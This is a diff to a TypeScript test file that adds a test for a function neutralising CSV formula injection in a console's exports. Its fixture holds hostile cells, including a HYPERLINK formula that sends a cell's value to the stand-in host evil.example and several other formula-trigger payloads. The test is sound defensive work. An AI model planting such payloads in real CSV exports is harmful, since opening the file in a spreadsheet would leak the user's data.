@@ -3,6 +3,7 @@ import {
   budgetState,
   joinCsvPages,
   MAX_TIERS,
+  neutraliseCsv,
   parseInteger,
   parseJwk,
   parseTiers,
@@ -122,5 +123,37 @@ describe('console forms', () => {
     expect(joinCsvPages([page1, page2])).toBe('\uFEFFrequestId,at\r\nr1,t1\r\nr2,t2\r\nr3,t3\r\n');
     expect(joinCsvPages([page1])).toBe(page1);
     expect(joinCsvPages([page1, '\uFEFFrequestId,at\r\n'])).toBe(page1);
+  });
+
+  it('saves no CSV cell a spreadsheet would run as a formula, keeping numbers and safe files as they are', () => {
+    const hostile = [
+      '\uFEFFrequestId,amount,idempotencyKey\r\n',
+      'r1,-12000,"=HYPERLINK(""https://evil.example/?x=""&A2,""Click for refund"")"\r\n',
+      'r2,500,-A2:B9\r\n',
+      'r3,0,+1\r\n',
+      'r4,1.5,@SUM(A1:A9)\r\n',
+      'r5,-1,"\t=1+1"\r\n',
+      'r6,2,"\r=1+1"\r\n',
+      'r7,3, =1+1\r\n',
+      'r8,4,\uFF1D1+1\r\n',
+    ].join('');
+    expect(neutraliseCsv(hostile)).toBe(
+      [
+        '\uFEFFrequestId,amount,idempotencyKey\r\n',
+        `r1,-12000,"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click for refund"")"\r\n`,
+        `r2,500,"'-A2:B9"\r\n`,
+        `r3,0,"'+1"\r\n`,
+        `r4,1.5,"'@SUM(A1:A9)"\r\n`,
+        `r5,-1,"'\t=1+1"\r\n`,
+        `r6,2,"'\r=1+1"\r\n`,
+        `r7,3,"' =1+1"\r\n`,
+        `r8,4,"'\uFF1D1+1"\r\n`,
+      ].join(''),
+    );
+    // What the gateway sends is already safe: the console leaves it byte for byte, never quoting twice.
+    const safe = neutraliseCsv(hostile);
+    expect(neutraliseCsv(safe)).toBe(safe);
+    const statement = '\uFEFFDòng / Line,citizen:read,,,,3,3,0,,1500\r\n"Bảo hiểm, ""BHXH""",-500\r\n';
+    expect(neutraliseCsv(statement)).toBe(statement);
   });
 });
